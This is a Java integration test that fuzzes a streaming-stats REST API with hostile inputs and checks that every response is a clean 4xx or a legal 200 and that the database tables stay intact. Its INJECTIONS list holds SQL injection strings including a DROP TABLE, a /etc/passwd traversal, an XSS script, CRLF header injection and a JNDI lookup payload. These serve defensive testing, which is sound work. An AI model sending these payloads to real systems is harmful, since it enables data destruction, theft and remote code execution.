package io.streampulse.api.readapi;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import io.micronaut.test.extensions.junit5.annotation.MicronautTest;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.sql.Connection;
import java.sql.ResultSet;
import java.sql.SQLException;
import java.sql.Statement;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;

/**
 * What an attacker sends, to every read endpoint: malformed logins, out-of-range and non-numeric limits and days,
 * SQL injection, NUL bytes, Unicode, CRLF, very long strings, forged cursors, malformed dates, broken percent
 * escapes. Every answer is a 4xx problem+json (or a normal 200 when the value happens to be legal), never a 5xx, and
 * the tables are untouched.
 */
@MicronautTest
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class HostileInputIT extends ReadApiContext {

    static final List<String> INJECTIONS = List.of("' OR 1=1 --", "1; DROP TABLE archive.channels; --",
        "x' UNION SELECT broadcaster_id FROM archive.channels --", "\u0000", "%00", "\r\nSet-Cookie: a=b",
        "../../etc/passwd", "<script>alert(1)</script>", "${jndi:ldap://x/a}");
    static final List<String> HOSTILE = join(INJECTIONS, List.of("-1", "0", "101", "366", "99999999999999999999",
        "ünïcödé", "\uD83D\uDE00", "a".repeat(2000), " ", "NaN", "2025-13-45T99:99:99Z", "2025-02-30",
        "eyJhbGciOiJub25lIn0.e30", "1e3", "0x10"));
    static final Map<String, List<String>> QUERIES = new LinkedHashMap<>();

    static {
        QUERIES.put("/api/v1/streams", List.of("game_id", "language", "tag", "limit", "cursor"));
        QUERIES.put("/api/v1/leaderboards/channels", List.of("limit"));
        QUERIES.put("/api/v1/leaderboards/games", List.of("limit"));
        QUERIES.put("/api/v1/channels/{login}/sessions", List.of("from", "to", "limit", "cursor"));
        QUERIES.put("/api/v1/channels/{login}/stats", List.of("days"));
        QUERIES.put("/api/v1/channels/{login}/schedule", List.of("weeks"));
        QUERIES.put("/api/v1/channels/{login}/games", List.of("days", "limit"));
        QUERIES.put("/api/v1/channels/{login}/events", List.of("limit"));
        QUERIES.put("/api/v1/channels/{login}/events/counts", List.of("from", "to"));
        QUERIES.put("/api/v1/rankings/channels", List.of("by", "days", "limit"));
        QUERIES.put("/api/v1/rankings/games", List.of("days", "limit"));
        QUERIES.put("/api/v1/rankings/tags", List.of("days", "limit"));
        QUERIES.put("/api/v1/platform/viewers", List.of("days"));
        QUERIES.put("/api/v1/events/counts", List.of("from", "to", "limit"));
    }

    private Map<String, Long> rowsBefore;
    private final List<String> checked = new ArrayList<>();

    @BeforeAll
    void countRows() throws SQLException {
        rowsBefore = rowCounts();
    }

    @Test
    void hostileLoginsAreRefusedOnEveryChannelEndpoint() {
        List<String> paths = new ArrayList<>(List.of("/api/v1/channels/{login}"));
        QUERIES.keySet().stream().filter(p -> p.contains("{login}")).forEach(paths::add);
        for (String path : paths) {
            for (String login : HOSTILE) {
                HttpProbe.Answer answer = http().get(path.replace("{login}", segment(login)));
                assertProblem(path + " login=" + abbreviate(login), answer);
                assertThat(answer.status()).as(path + " login=" + abbreviate(login)).isIn(400, 404);
            }
        }
    }

    @Test
    void hostileParametersAreRefusedOrHarmlessOnEveryEndpoint() {
        QUERIES.forEach((template, params) -> {
            String path = template.replace("{login}", data.alpha);
            for (String param : params) {
                for (String value : HOSTILE) {
                    HttpProbe.Answer answer = http().get(path + "?" + param + "=" + query(value));
                    assertSafe(path + "?" + param + "=" + abbreviate(value), answer);
                    if (INJECTIONS.contains(value)) {
                        assertThat(answer.status()).as(path + "?" + param + "=" + abbreviate(value)).isEqualTo(400);
                    }
                }
            }
        });
        assertThat(checked).hasSizeGreaterThan(500);
    }

    @Test
    void repeatedParametersAndMixedGarbageAreRefused() {
        assertProblem("repeated", http().get("/api/v1/streams?limit=500&limit=1"));
        assertProblem("both", http().get("/api/v1/channels/" + data.alpha + "/sessions?from=" + query(
            "2025-05-02T00:00:00Z") + "&to=" + query("2025-05-01T00:00:00Z")));
        assertProblem("span", http().get("/api/v1/events/counts?from=2020-01-01&to=2025-01-01"));
        assertProblem("method", http().get("/api/v1/no-such-endpoint"));
    }

    @Test
    void brokenUrlsAreProblemsToo() {
        for (String target : List.of("/api/v1/streams?tag=%zz", "/api/v1/channels/%zz/stats",
            "/api/v1/channels/%C0%AE%C0%AE/stats", "/api/v1/streams?cursor=%ff%fe", "/api/v1/channels/a%00b")) {
            RawHttp.Raw raw = RawHttp.get(server.getURL(), target);
            assertThat(raw.status()).as(target).isBetween(400, 499);
            assertThat(raw.head()).as(target).containsIgnoringCase("Content-Type: application/problem+json");
        }
        RawHttp.Raw overlong = RawHttp.get(server.getURL(), "/api/v1/channels/" + "a".repeat(10_000));
        assertThat(overlong.status()).isBetween(400, 499);
        assertThat(overlong.head()).containsIgnoringCase("Content-Type: application/problem+json");
    }

    @AfterAll
    void tablesAreIntact() throws SQLException {
        assertThat(rowCounts()).isEqualTo(rowsBefore);
    }

    private Map<String, Long> rowCounts() throws SQLException {
        Map<String, Long> counts = new LinkedHashMap<>();
        try (Connection owner = db.owner(); Statement statement = owner.createStatement()) {
            for (String table : ReadApiData.tables()) {
                try (ResultSet rows = statement.executeQuery("select count(*) from " + table)) {
                    rows.next();
                    counts.put(table, rows.getLong(1));
                }
            }
        }
        return counts;
    }

    private void assertSafe(String what, HttpProbe.Answer answer) {
        checked.add(what);
        assertThat(answer.status()).as(what).isLessThan(500);
        if (answer.status() >= 400) {
            assertProblem(what, answer);
        } else {
            assertThat(answer.status()).as(what).isEqualTo(200);
            assertThat(answer.contentType()).as(what).startsWith("application/json");
        }
    }

    private void assertProblem(String what, HttpProbe.Answer answer) {
        assertThat(answer.status()).as(what).isBetween(400, 499);
        assertThat(answer.contentType()).as(what).isEqualTo("application/problem+json");
        JsonNode problem = answer.json();
        assertThat(problem.get("status").asInt()).as(what).isEqualTo(answer.status());
        assertThat(problem.get("type").asText()).as(what).startsWith("urn:streampulse:problem:");
        assertThat(problem.get("title").asText()).as(what).isNotBlank();
        assertThat(problem.get("detail").asText()).as(what).isNotBlank().hasSizeLessThan(400);
        assertThat(problem.has("instance")).as(what).isTrue();
    }

    private static String segment(String value) {
        return URLEncoder.encode(value, StandardCharsets.UTF_8).replace("+", "%20");
    }

    private static String query(String value) {
        return URLEncoder.encode(value, StandardCharsets.UTF_8);
    }

    private static String abbreviate(String value) {
        return value.length() > 40 ? value.substring(0, 40) + "…(" + value.length() + ")" : value;
    }

    private static List<String> join(List<String> a, List<String> b) {
        List<String> all = new ArrayList<>(a);
        all.addAll(b);
        return List.copyOf(all);
    }
}
